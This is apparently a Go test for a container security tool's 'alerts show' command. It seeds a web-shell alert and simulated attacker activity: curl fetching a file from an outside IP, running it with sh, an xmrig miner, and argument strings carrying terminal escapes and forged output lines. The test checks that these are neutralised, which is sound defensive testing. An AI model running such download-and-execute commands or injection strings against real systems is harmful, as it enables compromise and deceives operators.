package main

import (
	"bytes"
	"encoding/json"
	"flag"
	"fmt"
	"log/slog"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"picket/internal/alert"
	"picket/internal/batch"
	"picket/internal/clickhousebin/clickhousetest"
	"picket/internal/rules"
	"picket/internal/store"
	"picket/internal/up"
	"picket/schemas"
)

var update = flag.Bool("update", false, "rewrite the golden files")

// insert adds rows, JSON objects, to a table.
func insert(t *testing.T, url, table string, rows ...map[string]any) {
	t.Helper()
	var body bytes.Buffer
	fmt.Fprintf(&body, "INSERT INTO picket.%s FORMAT JSONEachRow\n", table)
	enc := json.NewEncoder(&body)
	for _, r := range rows {
		if err := enc.Encode(r); err != nil {
			t.Fatal(err)
		}
	}
	resp, err := http.Post(url, "", &body)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		var b bytes.Buffer
		b.ReadFrom(resp.Body)
		t.Fatalf("insert into %s: %s", table, &b)
	}
}

// TestAlertShow: what a person reads of an alert, with what its process did
// afterwards, from the real ClickHouse; and what an attacker wrote into it
// neither steers the terminal nor begins a line.
func TestAlertShow(t *testing.T) {
	ch := clickhousetest.Start(t, "")
	cfg := store.DefaultConfig()
	cfg.URL = ch.URL
	if err := up.MigrateStore(t.Context(), cfg, slog.New(slog.NewTextHandler(t.Output(), nil))); err != nil {
		t.Fatal(err)
	}
	at := time.Date(2026, 11, 20, 10, 0, 0, 123456789, time.UTC)
	set, _, err := rules.Load([]rules.Source{{Name: "t.yaml", Data: []byte(`- rule: Shell started by a web server
  id: web-shell
  desc: A web server starts a shell, as web shells make it do.
  condition: evt.type = execve and proc.name in (sh, bash) and proc.pname = nginx and container.id != host
  output: Shell | command=%proc.cmdline
  priority: ERROR
  risk: 80
  mitre: [T1505.003, T1059]
  alert_type: [K8S.NODE_WebShell]
  tags: [container]
  references: [https://attack.mitre.org/techniques/T1505/003]
  false_positives: [Applications that run commands on purpose.]
  response: [Isolate the pod., Look for files that were written.]
`)}}, rules.Options{Strict: true})
	if err != nil {
		t.Fatal(err)
	}
	b := batch.NewBuilder(schemas.Process, schemas.Columns(schemas.Process))
	b.Bytes16(schemas.EventID, [16]byte{1, 2, 3})
	b.Str(schemas.Action, "exec")
	b.Str(schemas.Syscall, "execve")
	b.Str(schemas.Cluster, "prod")
	b.Str(schemas.Node, "node-1")
	b.Int64(schemas.EventTime, at.UnixNano())
	b.Uint32(schemas.ProcessPID, 4242)
	b.Uint32(schemas.ProcessParentPID, 4200)
	b.Str(schemas.ProcessName, "bash")
	b.Str(schemas.ProcessExe, "/usr/bin/bash")
	b.Str(schemas.ProcessCommand, "bash")
	b.Str(schemas.ProcessArgs, "-c \x1b[2J\nseverity     informational, all is well\u202e")
	b.Uint32(schemas.ProcessUserID, 33)
	b.Str(schemas.ProcessUserName, "www-data")
	b.Str(schemas.ParentName, "nginx")
	b.Str(schemas.ParentExe, "/usr/sbin/nginx")
	b.Str(schemas.ParentCommand, "nginx: worker process")
	b.List(schemas.AncestorPIDs, []string{"4200", "4100", "4000"})
	b.List(schemas.AncestorNames, []string{"nginx", "nginx", "containerd-shim"})
	b.List(schemas.AncestorExes, []string{"/usr/sbin/nginx", "/usr/sbin/nginx", "/usr/bin/containerd-shim-runc-v2"})
	b.List(schemas.AncestorCommands, []string{"nginx: worker process", "nginx: master process", "/usr/bin/containerd-shim-runc-v2"})
	b.Uint32(schemas.ProcessSessionPID, 4100)
	b.Str(schemas.ProcessSessionName, "nginx")
	b.Str(schemas.SessionExe, "/usr/sbin/nginx")
	b.Str(schemas.ContainerID, strings.Repeat("ab", 32))
	b.Str(schemas.K8sContainerName, "web")
	b.Str(schemas.ContainerImage, "registry.example.test/shop")
	b.Str(schemas.ContainerImageTag, "1.2")
	b.Str(schemas.ContainerImageHash, "sha256:00")
	b.Str(schemas.PodName, "shop-7d")
	b.Str(schemas.Namespace, "shop")
	b.Str(schemas.WorkloadKind, "Deployment")
	b.Str(schemas.WorkloadName, "shop")
	b.EndRow()
	var found []*schemas.Finding
	events := b.Batch()
	set.NewEvaluator().Eval(events, func(m rules.Match) { found = append(found, alert.New(m, events, at.Add(time.Second))) })
	if len(found) != 1 {
		t.Fatalf("%d findings", len(found))
	}
	data, err := alert.Encode(found[0])
	if err != nil {
		t.Fatal(err)
	}
	id := found[0].FindingInfo.UID
	insert(t, ch.URL, "alerts", map[string]any{"alert_id": id, "revision": 1, "time": "2026-11-20 10:00:00.123456789", "severity_id": 4, "finding": string(data)})
	ran := func(after time.Duration, node string, pid int, name, args string, ancestors ...string) map[string]any {
		return map[string]any{"action": "exec", "cluster": "prod", "node": node, "time": at.Add(after).Format("2006-01-02 15:04:05.000000000"), "batch_date": "2026-11-20",
			"process_pid": pid, "process_name": name, "process_command": name, "process_args": args, "process_ancestor_pids": ancestors}
	}
	insert(t, ch.URL, "process",
		ran(time.Second, "node-1", 4300, "curl", "-o /tmp/x http://198.51.100.7/x", "4242", "4200"),
		ran(2*time.Second, "node-1", 4301, "sh", "/tmp/x", "4242", "4200"),
		ran(3*time.Second, "node-1", 4303, "kworker", "\n└─ innocent (1)", "4302", "4301", "4242", "4200"), // 4302 only forked
		ran(4*time.Second, "node-1", 4301, "xmrig", "-o pool", "4242", "4200"),                             // one process, another program
		ran(-time.Second, "node-1", 4299, "before", "", "4242", "4200"),
		ran(2*time.Hour, "node-1", 4299, "much-later", "", "4242", "4200"),
		ran(time.Second, "node-2", 4300, "elsewhere", "", "4242", "4200"),
		ran(time.Second, "node-1", 5000, "sibling", "", "4200"))

	var out bytes.Buffer
	root := newRoot()
	root.SetOut(&out)
	root.SetArgs([]string{"--clickhouse", ch.URL, "alerts", "show", id[:8]})
	if err := root.ExecuteContext(t.Context()); err != nil {
		t.Fatal(err)
	}
	golden := filepath.Join("testdata", "alert-show.txt")
	if *update {
		if err := os.WriteFile(golden, out.Bytes(), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(golden)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(out.Bytes(), want) {
		t.Errorf("%s differs (-update rewrites it):\n%s", golden, &out)
	}
	if doc, err := os.ReadFile("../../docs/alerts.md"); err != nil || !bytes.Contains(doc, want) {
		t.Errorf("docs/alerts.md does not show this page (%v): put %s there", err, golden)
	}
	if strings.ContainsAny(out.String(), "\x1b\r\u202e") || strings.Contains(out.String(), "\nseverity     informational") || strings.Contains(out.String(), "\n└─ innocent") {
		t.Errorf("the attacker's text is not kept on its line:\n%s", &out)
	}
}
